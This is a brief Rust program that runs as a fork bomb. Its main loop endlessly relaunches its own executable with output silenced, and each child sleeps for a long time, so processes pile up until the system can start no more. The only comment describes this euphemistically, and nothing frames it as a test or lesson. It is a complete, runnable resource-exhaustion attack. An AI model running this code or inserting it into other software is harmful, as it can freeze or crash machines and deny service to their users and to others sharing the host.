use std::{env, process::{Command, Stdio}, thread, time::Duration};

/// Starts processes that stay, until no more are let.
fn main() {
    if env::args().nth(1).is_some() {
        thread::sleep(Duration::from_secs(1000));
    }
    loop {
        let mut one_more = Command::new(env::current_exe().unwrap());
        one_more.arg("stay").stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
        one_more.spawn().unwrap();
    }
}
